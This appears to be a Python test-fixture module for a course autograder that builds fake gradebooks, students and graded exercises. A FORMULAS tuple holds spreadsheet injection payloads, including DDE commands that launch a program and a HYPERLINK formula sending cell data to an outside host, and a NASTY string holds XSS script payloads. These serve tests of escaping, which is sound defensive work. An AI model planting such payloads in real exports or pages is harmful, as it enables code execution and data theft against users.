"""Classes made by hand, for tests of what is handed back and of the class page."""

from __future__ import annotations

import hashlib
import random
from collections.abc import Collection, Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any

import msgspec

from grader.classroom import (
    Adjustment,
    AttemptGrade,
    Cell,
    CellState,
    Column,
    Graded,
    HandIn,
    Refused,
    Row,
    Student,
    Unmatched,
)
from grader.gradebook import Gradebook, Run
from grader.model import CheckResult, Diagnosis, DiagnosisKind, ExerciseResult, Outcome, Status, SubmissionFile
from grader.policy import Late, Policy
from grader.submission import Submission

FORMULAS = (
    '=HYPERLINK("http://example.org/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "Doe;=1+1",
    'Doe,"=1+1',
    "=cmd|'/C calc'!A0",
    "\uff1d1+1",
    "Doe\n=1+1",
)
NASTY = "<img src=x onerror=alert(1)>\u202e`code`</style><script>alert(2)</script>&amp;\"'"
CHAPTERS = ("02_autograd", "03_modules", "03_modules", "03_modules", "04_training", "04_training", "05_devices")
SLUGS = ("matmul", "linear", "relu", "sequential", "cross_entropy", "sgd", "device")
TITLES = (
    "Matrix product with its own gradient",
    "Linear layer",
    "ReLU",
    "Sequential",
    "Cross-entropy loss",
    "Stochastic gradient descent",
    "Moving things to a device",
)
CHECKS = (
    ("forward", "`forward` gives the right values", 3.0),
    ("gradients", "`backward` agrees with finite differences", 4.0),
    ("dtype", "float64 stays float64", 1.0),
    ("batch", "a batch of one is a batch", 2.0),
)
MISTAKES = {
    "matmul": ("swapped_gradients", "forgotten_transpose"),
    "linear": ("weight_transposed", "bias_never_added"),
    "relu": ("mask_as_gradient", "in_place"),
    "sequential": ("python_list", "reversed"),
    "cross_entropy": ("sum_for_mean", "softmax_twice"),
    "sgd": ("ascent", "step_clears_gradients"),
    "device": ("through_the_cpu", "tuple_becomes_list"),
}
FIRST = (
    "Ada",
    "Björn",
    "Chloé",
    "Dmitri",
    "Elif",
    "Farah",
    "Goran",
    "Hana",
    "Ivo",
    "Jana",
    "Kofi",
    "Lena",
    "Mei",
    "Søren",
)
LAST = ("Adeyemi", "Bauer", "Çelik", "Dvořák", "Fontaine", "García", "Haddad", "Ito", "Łukasik", "Nguyễn", "O'Hara")
DUE = "2026-03-01T12:00:00+00:00"


class SomePolicy(msgspec.Struct, frozen=True, kw_only=True):
    """As much of a policy as an export shows."""

    title: str = "Deep learning"
    attempt: str = "last"


class FakeBook:
    """The part of a gradebook that is read, in memory."""

    def __init__(
        self,
        columns: Sequence[Column],
        rows: Sequence[Row],
        results: dict[str, Graded] | None = None,
        *,
        title: str = "Deep learning from scratch",
        unmatched: Sequence[Unmatched] = (),
        refused: Sequence[Refused] = (),
        sources: dict[str, bytes] | None = None,
    ) -> None:
        self.title = title
        self.columns = tuple(columns)
        self.policy = SomePolicy()
        self.seed = 7
        self.run: Run | None = Run(id=1, command="grade batch", started_at="2026-03-02T08:00:00+00:00")
        self._rows = list(rows)
        self._results = results or {}
        self._unmatched = tuple(unmatched)
        self._refused = tuple(refused)
        self._sources = sources or {}

    def rows(self, *, student_keys: Collection[str] | None = None) -> Iterator[Row]:
        """As the gradebook: by name, then key."""
        ordered = sorted(self._rows, key=lambda row: (row.student.name, row.student.key))
        return (row for row in ordered if student_keys is None or row.student.key in student_keys)

    def results(self, keys: Iterable[str]) -> dict[str, Graded]:
        """What was graded under these keys."""
        return {key: self._results[key] for key in keys if key in self._results}

    def last_run(self) -> Run | None:
        """The last run."""
        return self.run

    def unmatched(self) -> Iterator[Unmatched]:
        """Files of nobody."""
        return iter(self._unmatched)

    def refused(self) -> Iterator[Refused]:
        """Work that was not read."""
        return iter(self._refused)

    def source(self, sha256: str) -> bytes | None:
        """What was handed in."""
        return self._sources.get(sha256)


def columns(number: int = 7, **fields: Any) -> tuple[Column, ...]:
    """The exercises of the class, 10 points each."""
    return tuple(
        Column(
            slug=slug,
            title=title,
            chapter=chapter,
            max_score=10.0,
            checks=tuple((f"test_{name}", text, points) for name, text, points in CHECKS),
            **fields,
        )
        for slug, title, chapter in list(zip(SLUGS, TITLES, CHAPTERS, strict=True))[:number]
    )


def result(slug: str, passed: Sequence[bool], mistake: str = "", **fields: Any) -> ExerciseResult:
    """A result in which the checks passed or failed as said; the first that failed has the mistake, if any."""
    title, chapter = TITLES[SLUGS.index(slug)], CHAPTERS[SLUGS.index(slug)]
    checks = tuple(
        CheckResult(
            id=f"test_{name}",
            title=text,
            outcome=Outcome.PASSED if good else Outcome.FAILED,
            score=points if good else 0.0,
            max_score=points,
            message="" if good else "dL/dX differs in 6 of 20 elements; the worst is (2, 2), by 1.7.",
            duration_s=0.004,
        )
        for (name, text, points), good in zip(CHECKS, passed, strict=True)
    )
    first = next((check.id for check in checks if check.outcome is Outcome.FAILED), "")
    named = Diagnosis(check=first, kind=DiagnosisKind.MISCONCEPTION, name=mistake, text=f"It looks like {mistake}.")
    return ExerciseResult(
        **{
            "slug": slug,
            "title": title,
            "chapter": chapter,
            "status": Status.PASSED if all(passed) else Status.FAILED,
            "score": sum(check.score for check in checks),
            "max_score": 10.0,
            "submission": SubmissionFile(file=f"{slug}.py", sha256=sha(slug)),
            "checks": checks,
            "diagnoses": (named,) if mistake and first else (),
            **fields,
        }
    )


def sha(text: str) -> str:
    """Some SHA-256."""
    return hashlib.sha256(text.encode()).hexdigest()


def graded(outcome: ExerciseResult, **fields: Any) -> Graded:
    """A result as the gradebook keeps it."""
    settings = {"seed": 7, "isolation": "sandbox", "graded_at": "2026-03-02T08:00:00+00:00", "duration_s": 0.11}
    return Graded(result=outcome, **{**settings, "memory_mib": 41.0, **fields})


def attempt(outcome: ExerciseResult | None, key: str = "", **fields: Any) -> AttemptGrade:
    """An attempt; without a result it waits."""
    settings: dict[str, Any] = {
        "submission_id": int(sha(key)[:8], 16),
        "attempt": 1,
        "file": f"{outcome.slug}.py" if outcome else "relu.py",
        "sha256": sha(key),
        "key": key,
        "submitted_at": "2026-02-28T18:03:00+00:00",
        "max_score": 10.0,
    }
    if outcome is not None:
        settings |= {"status": outcome.status, "score": outcome.score, "duration_s": 0.11, "memory_mib": 41.0}
        settings["diagnoses"] = tuple(one.name for one in outcome.diagnoses)
    return AttemptGrade(**{**settings, **fields})


def cell(slug: str, state: CellState = CellState.MISSING, **fields: Any) -> Cell:
    """A cell of 10 points."""
    points = {CellState.MISSING: 0.0, CellState.REFUSED: 0.0}.get(state)
    return Cell(**{"slug": slug, "state": state, "max_score": 10.0, "points": points, **fields})


def row(student: Student, cells: Sequence[Cell], weights: Sequence[float] | None = None) -> Row:
    """The row of a student, with the totals that the cells come to."""
    weights = weights or [1.0] * len(cells)
    known = [(one, weight) for one, weight in zip(cells, weights, strict=True) if one.points is not None]
    return Row(
        student=student,
        cells=tuple(cells),
        total=round(sum((one.points or 0.0) * weight for one, weight in known), 4),
        max_total=round(sum(one.max_score * weight for one, weight in known), 4),
        complete=len(known) == len(cells),
    )


def sample_class(students: int = 40, exercises: int = 7, seed: int = 1) -> FakeBook:
    """A class as it is: most are good, some mistakes are common, a few are late, and something always goes wrong."""
    draw = random.Random(seed)  # noqa: S311  no secret
    results: dict[str, Graded] = {}
    rows = []
    wanted = columns(exercises, due=DUE)
    for number in range(students):
        first, last = draw.choice(FIRST), draw.choice(LAST)
        student = Student(
            key=f"canvas:{1000 + number}",
            name=f"{first} {last}",
            ids={"canvas_user": str(1000 + number), "email": f"s{number}@example.org", "username": f"s{number}"},
        )
        skill = draw.betavariate(4, 1.6)
        cells = [_cell(draw, student, column, skill, results) for column in wanted]
        rows.append(row(student, cells))
    refused = [
        Refused(student=one.student, place=f"{one.student.name}/hw.zip", why="a path in the archive leads outside")
        for one in rows
        if any(cell.state is CellState.REFUSED for cell in one.cells)
    ]
    unmatched = [
        Unmatched(place="submissions/notes.txt", why="no exercise is called notes"),
        Unmatched(
            place="submissions/hw1_final(2).py", why="no exercise is called hw1_final(2)", student=rows[0].student
        ),
    ]
    return FakeBook(wanted, rows, results, unmatched=unmatched, refused=refused)


def _cell(draw: random.Random, student: Student, column: Column, skill: float, results: dict[str, Graded]) -> Cell:
    slug, chance = column.slug, draw.random()
    if chance < 0.04:
        return cell(slug)
    if chance < 0.045:
        return cell(slug, CellState.REFUSED, why="a path in the archive leads outside")
    key = sha(f"{student.key} {slug}")
    if chance < 0.05:
        return cell(slug, CellState.WAITING, counted=attempt(None, key), attempts=(attempt(None, key),))
    hard = 0.12 * SLUGS.index(slug) / 7
    passed = [draw.random() < min(0.99, skill + 0.18 - hard - 0.08 * index) for index in range(4)]
    mistake = "" if draw.random() < 0.3 else draw.choice(MISTAKES[slug][:1] * 3 + MISTAKES[slug][1:])
    outcome = result(slug, passed, mistake)
    if chance < 0.055:
        outcome = msgspec.structs.replace(outcome, status=Status.UNGRADED, score=0.0, checks=())
        results[key] = graded(outcome)
        broken = attempt(outcome, key)
        return cell(slug, CellState.UNGRADED, counted=broken, attempts=(broken,))
    took, memory = draw.lognormvariate(-2.2, 0.5), draw.lognormvariate(3.7, 0.3)
    results[key] = graded(outcome, duration_s=took, memory_mib=memory)
    late = {"late_s": draw.uniform(60, 200_000), "percent_off": 10.0} if draw.random() < 0.06 else {}
    counted = attempt(outcome, key, duration_s=took, memory_mib=memory, **late)
    attempts: tuple[AttemptGrade, ...] = (counted,)
    if draw.random() < 0.1:
        earlier = attempt(outcome, f"{key} earlier", score=0.0, status=Status.FAILED)
        counted = msgspec.structs.replace(counted, attempt=2)
        attempts = (earlier, counted)
    points = round(counted.score * (1 - counted.percent_off / 100), 4)
    adjustment = None
    if draw.random() < 0.01:
        points = 8.0
        adjustment = Adjustment(points=8.0, why="handed in on paper", who="tutor", at="2026-03-03T09:00:00+00:00")
    return cell(slug, CellState.GRADED, points=points, counted=counted, attempts=attempts, adjustment=adjustment)


def one_student(name: str, *cells: Cell, key: str = "canvas:1", **ids: str) -> Row:
    """A row of a student of that name."""
    return row(Student(key=key, name=name, ids={"canvas_user": key.partition(":")[2], **ids}), cells)


def done(slug: str, points: float, key: str = "", **fields: Any) -> Cell:
    """A graded cell with so many points."""
    made = attempt(result(slug, [True] * 4), key or sha(slug), **{"score": points, **fields})
    return cell(slug, CellState.GRADED, points=points, counted=made, attempts=(made,))


def sample_gradebook(place: Path, students: int = 12, exercises: int = 3, seed: int = 1) -> Gradebook:
    """A real gradebook of such a class: handed in, graded, one of it by hand, one not at all. Open; close it."""
    draw = random.Random(seed)  # noqa: S311  no secret
    book = Gradebook.open(place, create=True)
    book.set_course("Deep learning from scratch", columns(exercises), Policy(late=Late(percent_per_day=10.0)))
    hand_ins: list[HandIn | Unmatched | Refused] = [
        HandIn(
            student=Student(
                key=f"canvas:{1000 + number}",
                name=f"{draw.choice(FIRST)} {draw.choice(LAST)}",
                ids={"canvas_user": str(1000 + number), "moodle_participant": str(number)},
            ),
            submitted_at="2026-02-28T18:03:00+00:00",
            late=number % 5 == 0,
            ref=f"name_{1000 + number}_{number}_{slug}.py",
            submission=Submission(
                slug=slug,
                path=Path(f"{slug}.py"),
                file=f"{slug}.py",
                sha256=sha(f"{number}{slug}"),
                source=f"# {number}{slug}\n",
            ),
        )
        for number in range(students)
        for slug in SLUGS[:exercises]
        if (number, slug) != (1, "relu")
    ]
    hand_ins.append(Unmatched(place="notes.txt", why="no exercise is called notes"))
    hand_ins.append(Refused(student=Student(key="canvas:1", name="Mallory"), place="m.zip", why="a path leads outside"))
    book.add(hand_ins)
    run = book.start_run("grade batch")
    made = []
    for pending in list(book.pending(dict.fromkeys(SLUGS, sha("digest"))))[:-1]:
        passed = [draw.random() < 0.7 for _ in range(4)]
        outcome = result(
            pending.slug,
            passed,
            MISTAKES[pending.slug][0],
            submission=SubmissionFile(file=pending.file, sha256=pending.sha256),
        )
        made.append((pending.key, pending, graded(outcome, seed=book.seed)))
    book.record_many(made)
    book.adjust("canvas:1003", "relu", 8.0, "handed in on paper", "tutor")
    book.finish_run(run)
    return book
